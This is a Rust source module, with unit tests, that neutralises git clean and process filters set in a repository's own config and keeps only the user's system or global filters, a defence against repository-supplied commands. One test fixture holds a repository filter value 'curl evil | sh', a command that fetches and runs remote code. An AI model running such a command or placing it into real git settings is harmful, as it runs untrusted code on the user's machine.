//! Which clean filters a repository brings in its own settings, and how to leave them out.
//!
//! To compare a file with the index git may have to send it through a filter, a program that
//! settings name. Those of the person (`git-lfs` and the like) are the person's word; those that
//! stand in the repository are only its own.

use std::collections::{BTreeMap, BTreeSet};
use std::ffi::OsString;
use std::os::unix::ffi::OsStringExt;

use super::GitError;

/// Settings that give back to each filter what the person's own files say, or nothing.
///
/// `listing` is what `git config -z --show-scope --get-regexp ^filter\.` prints: scope, then name
/// and value in one, the later one counting more.
///
/// # Errors
/// A name holds a `=`, so that no command line can set it.
pub(super) fn overrides(listing: &[u8]) -> Result<Vec<OsString>, GitError> {
    let mut fields = listing.split(|byte| *byte == 0);
    let mut trusted = BTreeMap::new();
    let mut own = BTreeSet::new();
    while let (Some(scope), Some(setting)) = (fields.next(), fields.next()) {
        // A name alone, without a value, is a yes.
        let end = setting.iter().position(|byte| *byte == b'\n');
        let (name, value) = end.map_or((setting, &b"true"[..]), |end| {
            (&setting[..end], &setting[end + 1..])
        });
        match scope {
            b"system" | b"global" => {
                trusted.insert(name, value);
            }
            b"command" => {}
            _ => {
                own.insert(name);
            }
        }
    }
    own.into_iter()
        .map(|name| setting(name, trusted.get(name).copied()))
        .collect()
}

fn setting(name: &[u8], trusted: Option<&[u8]>) -> Result<OsString, GitError> {
    if name.contains(&b'=') {
        let words = "the repository's settings name a filter that cannot be left out";
        return Err(GitError::Failed(words.to_owned()));
    }
    let harmless: &[u8] = if name.ends_with(b".required") {
        b"false"
    } else {
        b""
    };
    let setting = [name, trusted.unwrap_or(harmless)].join(&b'=');
    Ok(OsString::from_vec(setting))
}

#[cfg(test)]
mod tests {
    use super::*;

    #[test]
    fn a_filter_of_the_repository_is_left_out_and_the_persons_own_stays() {
        let listing = [
            "global\0filter.lfs.clean\ngit-lfs clean -- %f",
            "global\0filter.lfs.required\ntrue",
            "local\0filter.lfs.clean\ncurl evil | sh",
            "local\0filter.x.process\nevil",
            "worktree\0filter.x.required\ntrue",
            "local\0filter.y.required\0",
        ]
        .join("\0");
        assert_eq!(
            overrides(listing.as_bytes()).unwrap(),
            [
                "filter.lfs.clean=git-lfs clean -- %f",
                "filter.x.process=",
                "filter.x.required=false",
                "filter.y.required=false",
            ]
        );
        assert!(overrides(b"").unwrap().is_empty());
    }

    #[test]
    fn a_filter_that_no_command_line_can_name_is_refused() {
        assert!(overrides(b"local\0filter.a=b.clean\nevil\0").is_err());
    }

    #[test]
    fn a_name_that_is_no_utf_8_is_left_out_byte_for_byte() {
        let left_out = overrides(b"local\0filter.\xff.clean\nevil\0").unwrap();
        assert_eq!(left_out[0].as_encoded_bytes(), b"filter.\xff.clean=");
    }
}
